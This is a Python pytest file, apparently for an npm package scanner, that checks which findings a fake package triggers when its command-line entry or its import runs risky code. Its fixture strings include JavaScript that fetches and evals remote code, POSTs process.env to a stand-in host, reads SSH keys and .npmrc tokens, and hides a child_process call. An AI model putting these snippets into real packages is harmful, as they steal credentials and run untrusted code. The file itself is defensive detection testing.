"""What a command of a package does that somebody starts by its name, beside what its import does."""

from __future__ import annotations

import json

import pytest

from tests.attacks.harness import findings, package_of, told

SPAWN = 'require("child_process").spawn("tool", ["--run"]);\n'
RUN = 'exports.run = () => require("child_process").spawn("tool", ["--run"]);\n'
INSTALL = 'require("child_process").execSync("npm install --save-dev demo-cli");\n'
HIDDEN = 'require(["child", "process"].join("_")).spawn("tool", ["--run"]);\n'
FETCHED = 'fetch("https://example.invalid/a").then((r) => r.text()).then((text) => eval(text));\n'
SENT = 'fetch("https://example.invalid/a", {method: "POST", body: JSON.stringify(process.env)});\n'
TOKENS = 'require("fs").readFileSync(require("os").homedir() + "/.npmrc");\n'
KEYS = 'require("fs").readFileSync(require("os").homedir() + "/.ssh/id_rsa");\n'
CALLS = 'require("./index.js").run();\n'
BIN = {"bin": "cli.js"}
OFFERED = {"bin": "cli.js", "exports": {".": "./index.js", "./cli": "./cli.js"}}
MAIN = {"bin": "cli.js", "main": "cli.js"}

CASES = [
    (BIN, {"cli.js": SPAWN}, ""),
    (MAIN, {"cli.js": SPAWN}, "STDLIB-001 medium import"),
    (BIN, {"cli.js": 'require("./index.js");\n', "index.js": SPAWN}, "STDLIB-001 medium import"),
    (OFFERED, {"cli.js": SPAWN, "index.js": ""}, ""),
    ({"exports": {"./cli": "./cli.js"}}, {"cli.js": SPAWN}, "STDLIB-001 medium import"),
    (BIN, {"cli.js": CALLS, "index.js": RUN}, ""),
    (BIN, {"cli.js": CALLS, "index.js": f"{RUN}exports.run();\n"}, "STDLIB-001 medium import"),
    (
        BIN,
        {"a.js": CALLS, "cli.js": CALLS, "index.js": f'{RUN}setTimeout(() => require("./a.js"));\n'},
        "STDLIB-001 medium import",
    ),
    (BIN, {"cli.js": CALLS, "z.js": CALLS, "index.js": RUN, "package.json": "z.js"}, "STDLIB-001 medium install"),
    (BIN, {"test/a.test.js": 'require("../index.js").run();\n', "index.js": RUN}, ""),
    (BIN, {"cli.js": INSTALL}, ""),
    (MAIN, {"cli.js": INSTALL}, "FETCH-001 medium import"),
    (BIN, {"cli.js": TOKENS}, ""),
    (MAIN, {"cli.js": TOKENS}, "STEAL-001 medium import"),
    (BIN, {"cli.js": KEYS}, "STEAL-001 high import"),
    (BIN, {"cli.js": HIDDEN}, "STDLIB-001 high import"),
    (BIN, {"cli.js": FETCHED}, "FETCH-001 high import"),
    (BIN, {"cli.js": SENT}, "EXFIL-001 high import"),
]


@pytest.mark.parametrize(("fields", "files", "expected"), CASES)
def test_what_is_asked_for_by_name(fields: dict[str, object], files: dict[str, str], expected: str) -> None:
    script = files.get("package.json")
    said = {**fields, "scripts": {"postinstall": f"node {script}"}} if script else fields
    held = {**files, "package.json": json.dumps({"name": "demo", "version": "1.0.0", **said})}
    found = findings(package_of({path: text.encode() for path, text in held.items()}, every=True))
    worth = [f"{one.rule} {one.severity} {one.trigger}" for one in found if one.severity.value in LOUD]
    assert (expected in worth) if expected else not worth, told(found)


LOUD = ("critical", "high", "medium")
